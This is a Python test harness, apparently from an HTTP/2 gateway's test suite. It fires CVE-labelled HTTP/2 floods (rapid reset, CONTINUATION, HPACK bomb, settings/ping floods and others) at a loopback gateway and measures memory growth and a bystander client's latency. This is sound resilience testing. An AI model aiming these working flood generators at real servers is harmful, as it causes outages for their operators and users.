# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 floods, each an attack that has a CVE: how far memory grows, and whether another client notices.

Run as `floods.py good PORT SECONDS` it is that other client, in a process of its own so that the attack's own load on this
interpreter is not taken for the gateway's.
"""

import asyncio
import json
import ssl
import struct
import subprocess
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = struct.pack(">I", 8)
STREAM_ID_MAX = 2**31 - 1
FRAMES_AT_A_TIME = 200
GOOD_PAUSE_S = 0.02


def frame(kind, flags, stream, payload=b""):
    """One frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field that is not indexed, without Huffman coding (RFC 7541 section 6.2.2)."""
    return b"\x00" + _text(name) + _text(value)


def _text(text):
    length = len(text)
    if length < 127:
        return bytes([length]) + text
    length, out = length - 127, b"\x7f"
    while length >= 128:
        out += bytes([0x80 | length & 0x7F])
        length >>= 7
    return out + bytes([length]) + text


# :scheme, :path and :method from the static table.
GET = b"\x82\x84\x87" + literal(b":authority", b"localhost")
POST = b"\x83\x84\x87" + literal(b":authority", b"localhost")
BIG = b"\x40" + _text(b"a") + _text(b"y" * 4000)


def rapid_reset(at):
    """CVE-2023-44487: streams that are reset as soon as they are opened."""
    return frame(HEADERS, END_STREAM | END_HEADERS, at, GET) + frame(RST_STREAM, 0, at, CANCEL)


def made_you_reset(at):
    """CVE-2025-8671: streams that the server must reset."""
    return frame(HEADERS, END_STREAM | END_HEADERS, at, GET) + frame(WINDOW_UPDATE, 0, at, struct.pack(">I", 0))


def continuation(at):
    """CVE-2024-27316 and others: a head without end."""
    field = literal(b"abc", b"x" * 32)
    return frame(HEADERS, 0, 1, POST) if at == 1 else frame(CONTINUATION, 0, 1, field)


def continuation_empty(at):
    """The same with nothing in it."""
    return frame(HEADERS, 0, 1, POST) if at == 1 else frame(CONTINUATION, 0, 1)


def settings(_at):
    """CVE-2019-9515: settings that must each be acknowledged."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))


def ping(_at):
    """CVE-2019-9512."""
    return frame(PING, 0, 0, b"12345678")


def empty_data(at):
    """CVE-2019-9518, RUSTSEC-2026-0258: data frames without data."""
    return frame(HEADERS, END_HEADERS, 1, POST) if at == 1 else frame(DATA, 0, 1)


def priority(at):
    """CVE-2019-9513."""
    return frame(PRIORITY, 0, at, struct.pack(">IB", 0, 10))


def zero_window(at):
    """CVE-2019-9517: answers are asked for and no window is opened for them."""
    return frame(HEADERS, END_STREAM | END_HEADERS, at, GET)


def hpack_bomb(at):
    """CVE-2016-6581: a small head that refers to a large field thousands of times."""
    return frame(HEADERS, END_STREAM | END_HEADERS, at, GET + (BIG if at == 1 else b"\xbe" * 4000))


def many_hosts(at):
    """CVE-2026-73550: one `host` field, referred to many times."""
    named = b"\x40" + _text(b"host") + _text(b"h" * 2000)
    return frame(HEADERS, END_STREAM | END_HEADERS, at, GET + (named if at == 1 else b"\xbe" * 2000))


def cookies(at):
    """CVE-2026-47774: cookies in thousands of fields."""
    crumb = b"\x40" + _text(b"cookie") + _text(b"c" * 1000)
    return frame(HEADERS, END_STREAM | END_HEADERS, at, GET + (crumb if at == 1 else b"\xbe" * 8000))


def slow_streams(at):
    """Streams whose bodies never come."""
    return frame(HEADERS, END_HEADERS, at, POST)


# What is sent, and whether answers are read.
ATTACKS = {
    "rapid reset": (rapid_reset, True),
    "made you reset": (made_you_reset, True),
    "continuation": (continuation, True),
    "continuation, empty": (continuation_empty, True),
    "settings": (settings, True),
    "settings, nothing read": (settings, False),
    "ping": (ping, True),
    "ping, nothing read": (ping, False),
    "empty data": (empty_data, True),
    "priority": (priority, True),
    "zero window": (zero_window, True),
    "hpack bomb": (hpack_bomb, True),
    "many hosts": (many_hosts, True),
    "cookies": (cookies, True),
    "slow streams": (slow_streams, True),
}


def tls():
    """Trusts whatever certificate is shown: this is loopback."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


async def run(gateway, name, seconds, connections):
    """Runs one attack; how far resident memory rose above what it was, in MiB, and the other client's tally."""
    attack, reads = ATTACKS[name]
    sent = []
    before = peak = gateway.resident_mib()
    end = time.monotonic() + seconds
    command = [sys.executable, __file__, "good", str(gateway.tls_port), str(seconds)]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as good:
        attackers = [
            asyncio.create_task(_attack(gateway.tls_port, attack, reads, end, sent)) for _ in range(connections)
        ]
        while time.monotonic() < end + 1:
            await asyncio.sleep(0.1)
            peak = max(peak, gateway.resident_mib())
        for attacker in attackers:
            attacker.cancel()
        await asyncio.gather(*attackers, return_exceptions=True)
        tally = json.loads(good.communicate()[0])
    return {"grown_mib": peak - before, "frames": sum(sent), **tally}


async def _attack(port, attack, reads, end, sent):
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=tls(), limit=1 << 16)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        drain = asyncio.create_task(_read_all(reader)) if reads else None
        window = struct.pack(">HI", 4, 0) if attack is zero_window else b""
        try:
            writer.write(PREFACE + frame(SETTINGS, 0, 0, window))
            at = 1
            while time.monotonic() < end and not (drain and drain.done()) and at < STREAM_ID_MAX - 1000:
                writer.write(b"".join(attack(at + 2 * index) for index in range(FRAMES_AT_A_TIME)))
                at += 2 * FRAMES_AT_A_TIME
                sent.append(FRAMES_AT_A_TIME)
                await asyncio.wait_for(writer.drain(), 1.0)
                await asyncio.sleep(0.2 if attack in (zero_window, slow_streams) and at > 400 else 0)
        except (OSError, TimeoutError):
            pass
        finally:
            if drain:
                drain.cancel()
            writer.transport.abort()


async def _read_all(reader):
    while await reader.read(1 << 16):
        pass


async def good(port, seconds):
    """Asks on and on, each time on a new connection; how many requests, errors, and how long they took."""
    took, errors, end = [], 0, time.monotonic() + seconds
    while time.monotonic() < end:
        begun = time.monotonic()
        try:
            await asyncio.wait_for(_ask(port), 10)
            took.append(time.monotonic() - begun)
        except (OSError, TimeoutError, ValueError):
            errors += 1
        await asyncio.sleep(GOOD_PAUSE_S)
    took.sort()
    slow = took[int(len(took) * 0.99)] if took else 0
    return {"asked": len(took) + errors, "errors": errors, "p99_ms": round(slow * 1000, 1)}


async def _ask(port):
    reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=tls())
    try:
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM | END_HEADERS, 1, GET))
        while True:
            head = await reader.readexactly(9)
            payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
            stream, kind, flags = int.from_bytes(head[5:], "big"), head[3], head[4]
            # The answer's first field is `:status 200` of the static table.
            if stream == 1 and kind == HEADERS and payload[:1] != b"\x88":
                raise ValueError("not a 200")
            if kind in (GOAWAY, RST_STREAM):
                raise ValueError("refused")
            if stream == 1 and flags & END_STREAM:
                return
    except asyncio.IncompleteReadError as error:
        raise ValueError("cut") from error
    finally:
        writer.close()


if __name__ == "__main__" and sys.argv[1] == "good":
    print(json.dumps(asyncio.run(good(int(sys.argv[2]), float(sys.argv[3])))))
